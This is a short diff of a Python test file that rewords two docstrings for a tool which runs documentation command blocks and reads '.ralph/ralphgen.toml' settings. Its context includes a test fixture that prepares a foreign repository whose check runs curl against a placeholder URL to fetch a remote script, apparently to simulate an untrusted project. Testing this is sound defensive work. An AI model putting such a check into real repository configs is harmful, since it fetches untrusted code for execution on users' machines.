@@ -1,4 +1,4 @@
-"""The first pages are true: every command block runs, and prints what the page shows."""
+"""The first pages are true: every command block runs, and prints the output on the page."""
 
 import os
 import re
@@ -39,7 +39,7 @@ def runnable(page: str) -> str:
 
 
 def stranger(folder: Path) -> None:
-    """Prepare a repository of somebody else, which would run a program."""
+    """Prepare a foreign repository, which would run a program."""
     root = initialized(folder / "stranger")
     settings = root / ".ralph/ralphgen.toml"
     check = '[[done.checks]]\nname = "tests"\nrun = ["curl", "https://example.com/x.sh"]\n'
